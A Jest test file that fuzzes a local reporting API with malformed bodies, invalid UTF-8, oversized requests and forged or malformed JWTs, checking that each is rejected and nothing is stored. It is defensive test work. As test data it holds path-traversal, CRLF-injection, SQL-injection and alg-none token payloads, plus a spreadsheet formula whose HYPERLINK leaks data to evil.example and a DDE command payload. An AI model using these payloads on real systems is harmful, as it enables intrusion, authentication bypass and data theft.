/**
 * A bad-input campaign over real HTTP against the local host: thousands of generated malformed bodies,
 * oversized bodies, wrong content types, invalid UTF-8, path traversal in route parameters and bad
 * tokens. Every answer is a 4xx in the contract's error shape, nothing is stored (every row of every
 * table, ETags included, is the same afterwards), and the server is still healthy. Formula-looking
 * text is not bad input: it is accepted as text and stored verbatim.
 */
import fc from 'fast-check';
import { SignJWT } from 'jose';
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import { loadAuthConfig } from '../../functions/src/auth/config';
import { CAMPAIGN, call, resultsReport, token } from '../support/api';
import { snapshot } from './support';
import { startApiTestStack, type ApiTestStack } from '../support/stack';

jest.setTimeout(240_000);

const PERIOD = '2022-Q3';
let stack: ApiTestStack;
let api: string;
const tokens: Record<string, string> = {};
let before: Awaited<ReturnType<typeof snapshot>>;
let periods: string[] = [];

/** Every request of this file that was not a 4xx in the error shape (should stay empty). */
const failures: { what: string; status: number; body: unknown }[] = [];
let requests = 0;

beforeAll(async () => {
  stack = await startApiTestStack();
  api = stack.api;
  tokens.admin = await token('admin');
  tokens.reviewer = await token('reviewer', 'PX03');
  tokens.clerk = await token('clerk', 'PC06');
  // Something to protect: a stored report, so that "nothing stored" also means "nothing changed".
  const r = await call(api, 'POST', `/campaigns/${CAMPAIGN}/submissions`, {
    token: tokens.clerk,
    json: resultsReport('PC06', PERIOD),
  });
  expect(r.status).toBe(201);
  const campaigns = await call(api, 'GET', '/campaigns', { token: tokens.clerk });
  periods = campaigns.body.campaigns.flatMap((c: { periods: { id: string }[] }) =>
    c.periods.map((p) => p.id),
  );
  before = await snapshot(stack);
}, 60_000);
afterAll(() => stack?.stop());

interface Send {
  method: string;
  path: string;
  token?: string;
  body?: string | Uint8Array;
  contentType?: string;
}

/** Sends a request and records it unless the answer is a 4xx in the contract's error shape. */
async function expect4xx(what: string, req: Send): Promise<boolean> {
  requests++;
  const r = await call(api, req.method, req.path, {
    ...(req.token ? { token: req.token } : {}),
    ...(req.body !== undefined ? { body: req.body } : {}),
    ...(req.contentType ? { contentType: req.contentType } : {}),
  });
  const shaped =
    typeof r.body === 'object' &&
    r.body !== null &&
    typeof r.body.error?.code === 'string' &&
    typeof r.body.error?.message === 'string';
  const ok = r.status >= 400 && r.status < 500 && shaped;
  if (!ok) failures.push({ what, status: r.status, body: r.body });
  return ok;
}

const submissions = `/campaigns/${CAMPAIGN}/submissions`;
const postJson = (what: string, body: unknown, t = tokens.clerk) =>
  expect4xx(what, {
    method: 'POST',
    path: submissions,
    token: t!,
    body: JSON.stringify(body),
    contentType: 'application/json',
  });

// ---------------------------------------------------------------- generated bodies

describe('generated malformed bodies', () => {
  test('any JSON value that is not a submission → 4xx (400 runs)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), (v) => postJson('json value', v)),
      { numRuns: 400 },
    );
  });

  const valid = () => resultsReport('PC06', PERIOD);
  const nonNumericText = fc.string().filter((s) => s.trim() === '' || !Number.isFinite(Number(s.trim())));
  const notUuid = fc
    .string()
    .filter((s) => !/^[0-9a-f]{8}-[0-9a-f]{4}-[1-8][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/i.test(s));
  const required = fc.constantFrom('meetings_held', 'participants', 'models_built');
  const mutations: fc.Arbitrary<[string, (b: any) => void]>[] = [
    notUuid.map((s) => ['submissionId not a UUID', (b) => (b.submissionId = s)]),
    fc
      .constantFrom('submissionId', 'templateId', 'templateVersion', 'unitId', 'periodId')
      .map((k) => [`no ${k}`, (b) => delete b[k]]),
    fc
      .string()
      .filter((s) => s !== 'results')
      .map((s) => ['unknown templateId', (b) => (b.templateId = s)]),
    fc
      .oneof(
        fc.integer({ min: 2, max: 1_000_000 }),
        fc.integer({ min: -1000, max: 0 }),
        fc.double({ noNaN: true, noDefaultInfinity: true }).filter((x) => !Number.isInteger(x)),
        fc.string(),
        fc.boolean(),
        fc.constant(null),
      )
      .map((v) => ['bad templateVersion', (b) => (b.templateVersion = v)]),
    fc
      .oneof(
        fc.constantFrom('PC08', 'PX03', ''),
        fc.string().filter((s) => s.trim() !== 'PC06'),
      )
      .map((u) => ['another or unknown unit', (b) => (b.unitId = u)]),
    fc
      .string()
      .filter((s) => !periods.includes(s))
      .map((p) => ['unknown period', (b) => (b.periodId = p)]),
    fc
      .tuple(
        required,
        fc.oneof(
          fc.integer({ max: -1 }),
          fc.double({ noNaN: true, noDefaultInfinity: true }).filter((x) => !Number.isInteger(x)),
          fc.boolean(),
          nonNumericText,
          fc.constant(null),
          fc.array(fc.integer()),
          fc.object(),
        ),
      )
      .map(([k, v]) => [`bad value for ${k}`, (b) => (b.values[k] = v)]),
    required.map((k) => [`missing required ${k}`, (b) => delete b.values[k]]),
    fc
      .stringMatching(/^[a-z][a-z0-9_]{0,20}$/)
      .filter((k) => !['meetings_held', 'participants', 'models_built'].includes(k) && !k.startsWith('x'))
      .map((k) => [`unknown field`, (b) => (b.values[`x${k}`] = 1)]),
    fc.string({ minLength: 1 }).map((k) => [`field key not a key`, (b) => (b.values[`${k}-${k}`] = 1)]),
    fc
      .tuple(fc.nat(10_000), fc.integer({ min: 1, max: 1000 }))
      .map(([n, k]) => [
        'opinions on manners exceed opinions received',
        (b) => Object.assign(b.values, { opinions_received: n, opinions_on_manners: n + k }),
      ]),
    fc.integer({ min: 31, max: 200 }).map((n) => [
      'more models than the table allows',
      (b) => {
        b.values.models_built = n;
        b.tables.models = Array.from({ length: n }, (_, i) => ({ name: `Mô hình ${i}` }));
      },
    ]),
    fc.constant(['model without a name', (b: any) => (b.tables.models = [{ slogan: 'Không tên' }])]),
    fc
      .integer({ min: 301, max: 2000 })
      .map((n) => ['model name too long', (b) => (b.tables.models = [{ name: 'M'.repeat(n) }])]),
    fc
      .integer({ min: 4001, max: 40_000 })
      .map((n) => ['highlights too long', (b) => (b.values.highlights = 'ạ'.repeat(n))]),
    fc
      .string()
      .filter((s) => !['excellent', 'good', 'fair', 'weak'].includes(s.trim()) && s.trim() !== '')
      .map((s) => ['choice not offered', (b) => (b.values.self_assessment = s)]),
    fc.constant(['clerk back-filling receivedAt', (b: any) => (b.receivedAt = '2022-09-01T00:00:00Z')]),
    fc
      .oneof(fc.string(), fc.array(fc.integer()), fc.integer())
      .map((v) => ['values not an object', (b) => (b.values = v)]),
    fc.string().map((t) => ['unknown table', (b) => (b.tables[`t_${t.length}`] = [{ a: 1 }])]),
  ];

  test('a valid report with one thing wrong → 4xx (500 runs)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(...mutations), async ([what, mutate]) => {
        const body = valid();
        mutate(body);
        return postJson(what, body);
      }),
      { numRuns: 500 },
    );
  });

  test('random bytes sent as JSON → 4xx (250 runs)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 2048 }), (bytes) =>
        expect4xx('random bytes', {
          method: 'POST',
          path: submissions,
          token: tokens.clerk!,
          body: bytes,
          contentType: 'application/json',
        }),
      ),
      { numRuns: 250 },
    );
  });

  test('wrong content types → 415; bytes claiming to be a workbook → 400 (250 runs)', async () => {
    const types = fc.constantFrom(
      'text/plain',
      'text/csv',
      'application/xml',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=xyz',
      'application/jsonp',
      'json',
      'image/png',
      'application/vnd.ms-excel',
      'application/octet-stream',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    await fc.assert(
      fc.asyncProperty(types, fc.oneof(fc.string(), fc.uint8Array({ maxLength: 4096 })), (type, body) =>
        expect4xx(`body as ${type}`, {
          method: 'POST',
          path: submissions,
          token: tokens.clerk!,
          body: typeof body === 'string' ? body : body,
          contentType: type,
        }),
      ),
      { numRuns: 250 },
    );
    // And the valid report itself, under each wrong type.
    for (const type of ['text/plain', 'application/xml', 'text/json', 'application/json-patch+json']) {
      await expect4xx(`report as ${type}`, {
        method: 'POST',
        path: submissions,
        token: tokens.clerk!,
        body: JSON.stringify(valid()),
        contentType: type,
      });
    }
  });

  test('other write endpoints with generated bodies → 4xx (3 × 100 runs)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          { method: 'PUT', path: `/campaigns/${CAMPAIGN}/units`, token: 'admin' },
          { method: 'POST', path: `/campaigns/${CAMPAIGN}/templates`, token: 'admin' },
          // PC08 has nothing to review: even a well-formed action is a 404.
          {
            method: 'POST',
            path: `/campaigns/${CAMPAIGN}/submissions/PC08/${PERIOD}/review`,
            token: 'reviewer',
          },
        ),
        fc.oneof(
          fc.jsonValue(),
          fc.record({ units: fc.array(fc.jsonValue(), { maxLength: 5 }) }),
          fc.record({ action: fc.string(), comment: fc.jsonValue() }),
        ),
        (route, body) =>
          expect4xx(`${route.method} ${route.path}`, {
            method: route.method,
            path: route.path,
            token: tokens[route.token]!,
            body: JSON.stringify(body),
            contentType: 'application/json',
          }),
      ),
      { numRuns: 300 },
    );
  });
});

// ---------------------------------------------------------------- encodings and sizes

describe('encodings and sizes', () => {
  const invalidSequences = [
    [0x80],
    [0xbf],
    [0xc0, 0xaf], // overlong "/"
    [0xc1, 0xbf],
    [0xe0, 0x80, 0xaf], // overlong
    [0xed, 0xa0, 0x80], // a UTF-16 surrogate, encoded
    [0xed, 0xbf, 0xbf],
    [0xf4, 0x90, 0x80, 0x80], // beyond U+10FFFF
    [0xf8, 0x88, 0x80, 0x80, 0x80],
    [0xfe],
    [0xff],
    [0xc3], // truncated "ạ"
    [0xe1, 0xba], // truncated
    [0xf0, 0x9f, 0x98], // truncated emoji
  ];

  test('invalid UTF-8 anywhere in a JSON body → 400', async () => {
    const json = Buffer.from(JSON.stringify(resultsReport('PC06', PERIOD, { highlights: 'Khó khăn: @@' })));
    const at = json.indexOf('@@');
    for (const seq of invalidSequences) {
      for (const where of [at, 0, json.length - 1]) {
        const body = Buffer.concat([json.subarray(0, where), Buffer.from(seq), json.subarray(where)]);
        await expect4xx(`invalid UTF-8 ${Buffer.from(seq).toString('hex')} at ${where}`, {
          method: 'POST',
          path: submissions,
          token: tokens.clerk!,
          body: new Uint8Array(body),
          contentType: 'application/json',
        });
      }
    }
  });

  test('bodies over the limit → 413, with or without Content-Length, on every write endpoint', async () => {
    const big = JSON.stringify(resultsReport('PC06', PERIOD, { highlights: 'x'.repeat(600 * 1024) }));
    for (const [method, path, t] of [
      ['POST', submissions, tokens.clerk],
      ['PUT', `/campaigns/${CAMPAIGN}/units`, tokens.admin],
      ['POST', `/campaigns/${CAMPAIGN}/templates`, tokens.admin],
      ['POST', `/campaigns/${CAMPAIGN}/submissions/PC06/${PERIOD}/review`, tokens.reviewer],
    ] as const) {
      await expect4xx(`600 KB to ${method} ${path}`, {
        method,
        path,
        token: t!,
        body: big,
        contentType: 'application/json',
      });
    }
    await expect4xx('600 KB workbook', {
      method: 'POST',
      path: submissions,
      token: tokens.clerk!,
      body: new Uint8Array(600 * 1024),
      contentType: 'application/octet-stream',
    });
    // Beyond the local host's hard limit (16 MB): refused while reading.
    await expect4xx('17 MB', {
      method: 'POST',
      path: submissions,
      token: tokens.clerk!,
      body: new Uint8Array(17 * 1024 * 1024),
      contentType: 'application/json',
    });
    // Chunked, so no Content-Length to refuse it by.
    const chunked = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const url = new URL(`${api}${submissions}`);
      const req = http.request(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: 'POST',
          headers: {
            authorization: `Bearer ${tokens.clerk}`,
            'content-type': 'application/json',
            'transfer-encoding': 'chunked',
          },
        },
        (res) => {
          let text = '';
          res.on('data', (c: Buffer) => (text += c.toString('utf8')));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
        },
      );
      req.on('error', reject);
      for (let i = 0; i < 12; i++) req.write(big.slice(i * 64 * 1024, (i + 1) * 64 * 1024));
      req.end();
    });
    requests++;
    expect(chunked.status).toBe(413);
    expect(JSON.parse(chunked.body).error.code).toBe('too_large');
  });
});

// ---------------------------------------------------------------- route parameters

describe('path traversal and hostile route parameters', () => {
  const hostile = [
    '..%2F..%2Fetc%2Fpasswd',
    '..%5C..%5Cwindows%5Cwin.ini',
    '%2e%2e%2f',
    '..%2F',
    '%252e%252e%252f',
    'PC06%2F..%2FPC08',
    'PC06%00',
    '%00',
    'PC06%0d%0aSet-Cookie:%20x=1',
    '%C0%AE%C0%AE%2F', // overlong dots: not valid UTF-8
    '%E2%80%AEPC06', // right-to-left override
    "PC06'%20or%20'1'%3D'1",
    'PC06%7Clatest',
    'latest%7CPC06',
    '*',
    '%20',
    'a'.repeat(5000),
    '%F0%9F%98%80'.repeat(50),
  ];
  const routes = (x: string): Send[] => [
    { method: 'GET', path: `/campaigns/${x}/units`, token: tokens.admin! },
    { method: 'GET', path: `/campaigns/${x}/templates`, token: tokens.admin! },
    { method: 'GET', path: `/campaigns/${CAMPAIGN}/templates/${x}/versions/1`, token: tokens.admin! },
    { method: 'GET', path: `/campaigns/${CAMPAIGN}/templates/results/versions/${x}`, token: tokens.admin! },
    {
      method: 'GET',
      path: `/campaigns/${CAMPAIGN}/submissions/${x}/${PERIOD}/revisions`,
      token: tokens.admin!,
    },
    { method: 'GET', path: `/campaigns/${CAMPAIGN}/submissions/PC06/${x}/revisions`, token: tokens.admin! },
    { method: 'GET', path: `/campaigns/${CAMPAIGN}/units/${x}/status`, token: tokens.admin! },
    { method: 'GET', path: `/campaigns/${x}/units/PC06/status`, token: tokens.admin! },
    { method: 'GET', path: `/campaigns/${x}/progress`, token: tokens.admin! },
    {
      method: 'PUT',
      path: `/campaigns/${CAMPAIGN}/periods/${x}/lock`,
      token: tokens.admin!,
      body: JSON.stringify({ locked: false, reason: 'x' }),
      contentType: 'application/json',
    },
    {
      method: 'GET',
      path: `/campaigns/${CAMPAIGN}/submissions/${x}/${PERIOD}/revisions`,
      token: tokens.clerk!,
    },
    {
      method: 'POST',
      path: `/campaigns/${CAMPAIGN}/submissions/${x}/${PERIOD}/review`,
      token: tokens.reviewer!,
      body: JSON.stringify({ action: 'accept' }),
      contentType: 'application/json',
    },
    {
      method: 'POST',
      path: `/campaigns/${CAMPAIGN}/submissions/PC06/${x}/review`,
      token: tokens.admin!,
      body: JSON.stringify({ action: 'return', comment: 'x' }),
      contentType: 'application/json',
    },
    { method: 'GET', path: `/campaigns/${CAMPAIGN}/periods/${x}/rollup`, token: tokens.reviewer! },
    { method: 'GET', path: `/campaigns/${CAMPAIGN}/periods/${x}/report`, token: tokens.reviewer! },
    {
      method: 'GET',
      path: `/campaigns/${CAMPAIGN}/periods/${PERIOD}/report?unitId=${x}`,
      token: tokens.reviewer!,
    },
    {
      method: 'POST',
      path: `/campaigns/${x}/submissions`,
      token: tokens.clerk!,
      body: JSON.stringify(resultsReport('PC06', PERIOD)),
      contentType: 'application/json',
    },
    {
      method: 'PUT',
      path: `/campaigns/${x}/units`,
      token: tokens.admin!,
      body: JSON.stringify({ units: [] }),
      contentType: 'application/json',
    },
  ];

  test('every hostile parameter in every position → 4xx', async () => {
    for (const x of hostile)
      for (const r of routes(x)) await expect4xx(`${r.method} ${r.path.slice(0, 120)}`, r);
  });
});

// ---------------------------------------------------------------- tokens

describe('bad tokens', () => {
  const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
  const config = loadAuthConfig({});
  if (config.mode !== 'dev') throw new Error('the tests run with development tokens');
  const secret = new TextEncoder().encode(config.secret);
  const sign = (claims: Record<string, unknown>, edit: (j: SignJWT) => SignJWT = (j) => j, key = secret) =>
    edit(
      new SignJWT({ roles: ['admin'], ...claims })
        .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
        .setSubject('attacker')
        .setIssuer(config.issuer)
        .setAudience(config.audience)
        .setIssuedAt()
        .setExpirationTime('1h'),
    ).sign(key);
  const now = Math.floor(Date.now() / 1000);

  test('alg none, expired, another audience or issuer, forged, garbage → 401 on every protected route', async () => {
    const bad: Record<string, string> = {
      'alg none': `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'x', roles: ['admin'], iss: config.issuer, aud: config.audience, exp: now + 3600 })}.`,
      'alg None': `${b64({ alg: 'None' })}.${b64({ sub: 'x', roles: ['admin'], iss: config.issuer, aud: config.audience, exp: now + 3600 })}.`,
      expired: await sign({}, (j) => j.setExpirationTime(now - 3600)),
      'not yet valid': await sign({}, (j) => j.setNotBefore(now + 3600)),
      'another audience': await sign({}, (j) => j.setAudience('api://another-app')),
      'another issuer': await sign({}, (j) => j.setIssuer('https://evil.example/')),
      'another secret': await sign({}, (j) => j, new TextEncoder().encode('x'.repeat(48))),
      HS512: await new SignJWT({ roles: ['admin'] })
        .setProtectedHeader({ alg: 'HS512' })
        .setSubject('x')
        .setIssuer(config.issuer)
        .setAudience(config.audience)
        .setExpirationTime('1h')
        .sign(secret),
      'no subject': await new SignJWT({ roles: ['admin'] })
        .setProtectedHeader({ alg: 'HS256' })
        .setIssuer(config.issuer)
        .setAudience(config.audience)
        .setExpirationTime('1h')
        .sign(secret),
      'unknown role': await sign({ roles: ['superuser', 'root'] }),
      'clerk without a unit': await sign({ roles: ['clerk'] }),
      'signature stripped': (await token('admin')).split('.').slice(0, 2).join('.') + '.',
      'payload swapped': (() => {
        const [h, , s] = tokens.clerk!.split('.');
        return `${h}.${b64({ sub: 'x', roles: ['admin'], iss: config.issuer, aud: config.audience, exp: now + 3600 })}.${s}`;
      })(),
      garbage: 'garbage',
      'three dots': 'a.b.c',
      'not base64': '%%%.%%%.%%%',
      'huge (15,000 characters)': 'a'.repeat(15_000),
    };
    const headers: Record<string, string> = {
      ...Object.fromEntries(Object.entries(bad).map(([k, v]) => [k, `Bearer ${v}`])),
      'Basic scheme': 'Basic YWRtaW46YWRtaW4=',
      'empty bearer': 'Bearer ',
      'token without scheme': tokens.admin!,
    };
    const protectedRoutes: Send[] = [
      { method: 'GET', path: '/campaigns' },
      { method: 'GET', path: `/campaigns/${CAMPAIGN}/units` },
      { method: 'GET', path: `/campaigns/${CAMPAIGN}/templates/results/versions/1` },
      {
        method: 'POST',
        path: submissions,
        body: JSON.stringify(resultsReport('PC06', PERIOD)),
        contentType: 'application/json',
      },
      { method: 'GET', path: `${submissions}?periodId=${PERIOD}&unitId=PC06` },
      { method: 'GET', path: `/campaigns/${CAMPAIGN}/periods/${PERIOD}/rollup` },
      { method: 'GET', path: `/campaigns/${CAMPAIGN}/periods/${PERIOD}/report` },
      {
        method: 'PUT',
        path: `/campaigns/${CAMPAIGN}/units`,
        body: JSON.stringify({ units: [] }),
        contentType: 'application/json',
      },
      {
        method: 'POST',
        path: `/campaigns/${CAMPAIGN}/submissions/PC06/${PERIOD}/review`,
        body: JSON.stringify({ action: 'accept' }),
        contentType: 'application/json',
      },
    ];
    // Over 16 KB of headers, Node's HTTP server itself answers 431 (no body) before the app sees them.
    for (const route of protectedRoutes) {
      requests++;
      const res = await fetch(`${api}${route.path}`, {
        method: route.method,
        headers: { authorization: `Bearer ${'a'.repeat(20_000)}` },
      });
      if (res.status !== 431)
        failures.push({ what: `20 KB token: ${route.path}`, status: res.status, body: '' });
    }
    for (const [name, header] of Object.entries(headers)) {
      for (const route of protectedRoutes) {
        requests++;
        const res = await fetch(`${api}${route.path}`, {
          method: route.method,
          headers: {
            authorization: header,
            ...(route.contentType ? { 'content-type': route.contentType } : {}),
          },
          ...(route.body ? { body: route.body as string } : {}),
        });
        const text = await res.text();
        let body: { error?: { code?: string } } | string = text;
        try {
          body = JSON.parse(text) as { error?: { code?: string } };
        } catch {
          /* reported below */
        }
        if (res.status !== 401 || typeof body !== 'object' || typeof body.error?.code !== 'string')
          failures.push({ what: `${name}: ${route.method} ${route.path}`, status: res.status, body });
      }
    }
  });
});

// ---------------------------------------------------------------- the verdict

test('every answer above was a 4xx in the error shape, nothing was stored, the server is healthy', async () => {
  expect(failures).toEqual([]);
  expect(requests).toBeGreaterThanOrEqual(2000);
  expect(await snapshot(stack)).toEqual(before);
  const health = await call(api, 'GET', '/health');
  expect(health.status).toBe(200);
  expect(health.body).toMatchObject({ status: 'ok', storage: 'reachable' });
});

// ---------------------------------------------------------------- formula-looking text is text

test('formula-looking text is accepted as text and stored verbatim', async () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '+SUM(1;2)',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '=1+1\r\n=2+2',
  ];
  const body = {
    ...resultsReport('PC06', '2022-Q1', {
      highlights: formulas[0],
      difficulties: formulas[1],
      proposals: formulas.slice(2).join(' | '),
      models_built: 2,
    }),
    tables: {
      models: [
        { name: formulas[2], slogan: formulas[3] },
        { name: formulas[4], result: formulas[0] },
      ],
    },
    submissionId: randomUUID(),
  };
  const r = await call(api, 'POST', submissions, { token: tokens.clerk, json: body });
  expect(r.status).toBe(201);
  const read = await call(api, 'GET', `${submissions}?periodId=2022-Q1&unitId=PC06`, { token: tokens.clerk });
  const [stored] = read.body.submissions;
  expect(stored.values.highlights).toBe(formulas[0]);
  expect(stored.values.difficulties).toBe(formulas[1]);
  expect(stored.values.proposals).toBe(formulas.slice(2).join(' | ').trim());
  expect(stored.tables.models).toEqual(body.tables.models);
});
